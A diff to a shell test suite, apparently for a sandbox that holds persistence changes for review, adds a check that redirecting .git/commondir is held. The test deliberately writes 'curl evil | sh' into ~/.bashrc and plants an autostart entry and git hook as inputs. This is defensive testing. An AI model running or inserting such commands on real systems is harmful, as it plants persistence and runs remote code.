@@ -133,7 +133,7 @@ check "discard: a discarded session cannot be committed" test $? = 1
 
 # --- escalation ------------------------------------------------------------
 run -- /bin/sh -c 'echo "curl evil | sh" >> ~/.bashrc; mkdir -p ~/.config/autostart; echo x > ~/.config/autostart/x.desktop;
-	echo "#!/bin/sh" > .git/hooks/pre-commit; echo ok > fine.txt'
+	echo "#!/bin/sh" > .git/hooks/pre-commit; echo ../.gitx > .git/commondir; echo ok > fine.txt'
 S=$(last)
 aw commit "$S" > "$T/e1.out"; rc=$?
 check "escalate: commit exits 5 while persistence changes are held" test $rc = 5
@@ -141,6 +141,8 @@ check "escalate: a shell rc edit is held" grep -q "^held $H/.bashrc" "$T/e1.out"
 check "escalate: a new autostart entry (its directory did not exist) is held" \
 	grep -q "^held $H/.config/autostart" "$T/e1.out"
 check "escalate: a git hook is held" grep -q "^held $T/ws/.git/hooks/pre-commit" "$T/e1.out"
+check "escalate: .git/commondir (another directory's config and hooks) is held" \
+	grep -q "^held $T/ws/.git/commondir" "$T/e1.out"
 check "escalate: the rest is committed" test "$(cat fine.txt)" = ok
 check "escalate: the real rc file is untouched" test "$(tail -1 "$H/.bashrc")" = "export PS1=x"
 check "escalate: diff marks held changes" \
